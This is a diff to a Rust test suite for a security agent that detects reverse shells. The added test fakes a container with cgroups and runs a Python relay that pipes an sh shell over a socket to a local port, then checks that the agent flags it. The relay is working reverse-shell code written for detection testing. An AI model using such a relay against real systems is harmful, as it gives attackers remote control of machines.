@@ -1,6 +1,10 @@
 //! Reverse shells, each on the host and in a container, with its programs under their own names and
 //! under others: a shell is found once, as what it is, and dies where the agent may act.
 
+use std::{
+    fs,
+    path::{Path, PathBuf},
+};
 use vedette_tests::{
     agent::{Agent, Finding, PATIENCE, Stopped, summary},
     http::free_port,
@@ -535,4 +539,75 @@ everywhere! {
     bound_by_socat_once => BOUND_SOCAT_ONCE,
     bound_by_socat_with_a_command => BOUND_SOCAT_COMMAND,
     bound_by_python => BOUND_PYTHON,
+}
+
+/// Control groups of one name in every hierarchy. Dropped, they are removed.
+struct Groups(Vec<PathBuf>);
+
+impl Groups {
+    fn make(name: &str) -> Self {
+        let root = Path::new("/sys/fs/cgroup");
+        // Both of a mixed machine's; the unified one alone lies at the root.
+        let hierarchies = ["unified", "pids", ""].map(|hierarchy| root.join(hierarchy));
+        let at = |hierarchy: &PathBuf| {
+            let group = hierarchy.join(name);
+            let is_one = hierarchy.join("cgroup.procs").exists();
+            (is_one && fs::create_dir(&group).is_ok()).then_some(group)
+        };
+        Self(hierarchies.iter().filter_map(at).collect())
+    }
+}
+
+impl Drop for Groups {
+    fn drop(&mut self) {
+        for group in &self.0 {
+            // What was in it is being ended.
+            wait_for(PATIENCE, || fs::remove_dir(group).ok());
+        }
+    }
+}
+
+/// The relay stays outside, as a container's runtime does.
+#[test]
+fn in_a_group_that_only_looks_like_a_container() {
+    require!(Need::Root, Need::Tool("setsid"), Need::Tool("python3"));
+    require!(Need::Agent, Need::Kernel);
+    let _alone = workspace::alone();
+    let groups = Groups::make(&"5e".repeat(32));
+    let files: Vec<_> = groups
+        .0
+        .iter()
+        .map(|group| group.join("cgroup.procs"))
+        .collect();
+    assert!(!files.is_empty(), "this machine has control groups");
+    let agent = Agent::observing();
+    let shell = RemoteShell::start(Place::Host, Names::Own, Wire::Clear, |tools, port| {
+        let (python, sh) = (tools.get("python3"), tools.get("sh"));
+        let relay = tools.layer().join("relay.py");
+        let script = format!(
+            r#"import socket,subprocess,threading,os
+def move():
+    for file in {files:?}: open(file,"w").write(str(os.getpid()))
+s=socket.create_connection(("127.0.0.1",{port}))
+p=subprocess.Popen(["{sh}"],preexec_fn=move,stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
+def there():
+    while d:=s.recv(4096): p.stdin.write(d)
+    p.stdin.close()
+threading.Thread(target=there,daemon=True).start()
+while d:=p.stdout.read(4096): s.sendall(d)
+"#
+        );
+        fs::write(&relay, script).expect("an own directory");
+        format!("{python} {}", relay.display())
+    });
+    let pid = shell.shell(PATIENCE);
+    let pid = pid.unwrap_or_else(|| panic!("the attack does not work: {}", shell.log()));
+    // A runtime would have time to describe its container.
+    let found = || (agent.findings().into_iter()).find(|finding| finding.pid() == Some(pid));
+    let finding = wait_for(3 * PATIENCE, found)
+        .unwrap_or_else(|| panic!("it is not found: {}", agent.describe()));
+    assert_eq!(finding.category(), "reverse-shell", "{}", finding.json);
+    drop(shell);
+    drop(groups);
+    agent.stop();
 }
